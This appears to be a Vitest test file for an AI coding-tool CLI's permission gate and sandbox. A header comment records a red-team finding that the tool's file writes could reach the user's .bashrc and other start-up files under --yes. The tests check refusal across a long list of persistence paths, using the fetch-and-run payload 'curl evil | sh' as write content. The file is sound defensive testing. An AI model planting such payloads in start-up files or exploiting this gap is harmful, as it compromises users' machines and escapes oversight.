// Red team H-C, from the attacker's side: with the workspace the home folder (or holding it), the user's
// start-up files were protected only inside the sandbox; the file tools wrote them under --yes
// (`codeward -C ~ --yes write --file .bashrc`). One list (permissions/obeyed-home.ts) now serves the write
// gate and the sandbox. A fake HOME temp folder stands for the user's home.
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { HOME_PROTECTED, HOME_PROTECTED_FILES } from '../../src/permissions/obeyed-home.js';
import { obeyedContext } from '../../src/permissions/obeyed-context.js';
import { isObeyedLater } from '../../src/permissions/obeyed.js';
import { homeDenied } from '../../src/sandbox/home-shown.js';
import * as lists from '../../src/sandbox/lists.js';
import { compileNonAccessible } from '../../src/workspace/globs.js';
import { CLI, removeDir, runCli, tempDir, writeFiles } from '../helpers/fixture.js';

let home: string;
let state: string;
beforeEach(async () => {
  home = await tempDir('codeward-home-');
  state = await tempDir('codeward-home-state-');
  await writeFiles(home, { '.bashrc': 'echo hi\n', 'proj/src/a.ts': 'export {};\n' });
});
afterEach(async () => {
  await removeDir(home);
  await removeDir(state);
});

const write = (workspace: string, file: string) =>
  runCli(['-C', workspace, '--json', '--yes', '--sandbox', 'off', 'write', '--file', file, '--content', 'curl evil | sh\n'], { env: { HOME: home, CODEWARD_STATE_DIR: state } });

const NAMED = [
  '.bashrc', '.profile', '.zshrc', '.gitconfig', '.local/bin/ls', '.config/autostart/x.desktop', '.config/systemd/user/x.service',
  '.cargo/env', '.bash_aliases', '.bash_login', '.bash_logout', '.zprofile', '.zlogin', '.zshenv', '.config/fish/config.fish',
  '.config/fish/conf.d/x.fish', '.config/nvim/init.lua', '.config/nvim/init.vim', '.vimrc', '.xsessionrc', '.xprofile', '.tmux.conf',
  '.inputrc', '.npmrc', '.ssh/config', '.ssh/authorized_keys', '.local/share/applications/x.desktop',
  // Red team H5: beyond the list, every home dot-path that is not known data (the rule the other way round).
  '.aws/config', '.config/starship.toml', '.p10k.zsh', '.config/gh/config.yml', '.docker/config.json', '.config/anytool/plugins.toml',
  '.local/share/nvim/site/plugin/x.lua', '.newtoolrc', '.cache/pre-commit/repo/hook.py', '.local/lib/python3.12/site-packages/x.pth',
];
// Known data (HOME_DATA): caches checked on read, logs, histories.
const DATA = ['.npm/_cacache/content-v2/sha512/ab/cd', '.npm/_logs/x.log', '.bash_history', '.local/share/Trash/files/a', '.cache/thumbnails/x.png'];

describe('one list for the gate and the sandbox', () => {
  it('the sandbox imports the very list the gate uses', () => {
    expect(lists.HOME_PROTECTED).toBe(HOME_PROTECTED);
    expect(lists.HOME_PROTECTED_FILES).toBe(HOME_PROTECTED_FILES);
  });

  it.each(NAMED)('%s is obeyed when the workspace is the home folder, and below a home inside the workspace', (file) => {
    expect(isObeyedLater(file, { gitPaths: [], homes: [''] }), file).toBeDefined();
    expect(isObeyedLater(`home/me/${file}`, { gitPaths: [], homes: ['home/me'] }), file).toBeDefined();
    // Case variants (a case-insensitive volume).
    expect(isObeyedLater(file.toUpperCase(), { gitPaths: [], homes: [''] }), file).toBeDefined();
  });

  it('only at the home folder: a project\'s own .profile, bin/ or .bash_aliases is not a home file', () => {
    for (const path of ['proj/.profile', 'proj/bin/run', 'proj/.bash_aliases', 'proj/.config/fish/x.fish', 'notes.md', 'proj/.aws/config']) {
      expect(isObeyedLater(path, { gitPaths: [], homes: [''] }), path).toBeUndefined();
    }
    expect(isObeyedLater('.bashrc', { gitPaths: [] })).toBeUndefined();
  });

  it.each(DATA)('%s is known data: written unasked in a home workspace', (path) => {
    expect(isObeyedLater(path, { gitPaths: [], homes: [''] }), path).toBeUndefined();
  });

  it('a home dot-path beyond the list names its program folder in the question', () => {
    expect(isObeyedLater('.config/starship/x/y.toml', { gitPaths: [], homes: [''] })?.pattern).toBe('~/.config/starship');
    expect(isObeyedLater('home/me/.aws/config', { gitPaths: [], homes: ['home/me'] })?.pattern).toBe('~/.aws');
    expect(isObeyedLater('.cache/go-build/ab/x-d', { gitPaths: [], homes: [''] })?.pattern).toBe('~/.cache');
  });

  it('the context finds the home folder in the workspace: itself, a parent, not a subfolder workspace', () => {
    expect(obeyedContext(home, home).homes).toContain('');
    expect(obeyedContext(join(home, '..'), home).homes?.some((rel) => rel.endsWith(home.split('/').pop()!))).toBe(true);
    expect(obeyedContext(join(home, 'proj'), home).homes).toEqual([]);
  });
});

describe.skipIf(!existsSync(CLI))('the real binary, -C the home folder, --yes', () => {
  // The home's secrets (the sandbox's HOME_SECRETS) lie in this workspace: non-accessible there (red team R7-13);
  // so is every dot-path the home workspace's default deny does not show (sandbox/home-shown.ts, red team R9-13).
  const secret = (file: string): boolean =>
    lists.HOME_SECRETS.some((entry) => file === entry || file.startsWith(`${entry}/`)) || compileNonAccessible(homeDenied(home, [home]).globs)(file);
  it.each(NAMED)('--yes write %s is refused (safety-immune, or non-accessible for a home secret), the file is unchanged', (file) => {
    const result = write(home, file);
    expect(result.json, file).toMatchObject({ ok: false, error: { code: secret(file) ? 'C211' : 'C241' } });
    if (secret(file)) return;
    // The catalogue (.vimrc, .npmrc) and the SSH class (.ssh/) name themselves; the rest names the home folder.
    expect(result.json.error?.message).toMatch(isObeyedLater(file) || file.startsWith('.ssh/') ? /safety-immune/ : /your home folder, and ~\/\S+ is run or obeyed/);
    if (file === '.bashrc') expect(readFileSync(join(home, '.bashrc'), 'utf8')).toBe('echo hi\n');
    else expect(existsSync(join(home, file))).toBe(false);
  });

  it('ordinary files of the home workspace, and a project inside it, are still written under --yes', () => {
    const ordinary = write(home, 'proj/src/b.txt');
    expect(ordinary.json, JSON.stringify(ordinary.json)).toMatchObject({ ok: true });
    expect(write(home, 'notes.txt').json).toMatchObject({ ok: true });
    // Known data for the write gate, but not on the home workspace's shown list: non-accessible (R9-13).
    expect(write(home, '.lesshst').json).toMatchObject({ ok: false, error: { code: 'C211' } });
    // A history is known data for the write gate, and a home secret (hidden, non-accessible) since R7-13.
    expect(write(home, '.bash_history').json).toMatchObject({ ok: false, error: { code: 'C211' } });
    expect(write(join(home, 'proj'), '.profile').json).toMatchObject({ ok: true });
  });
});
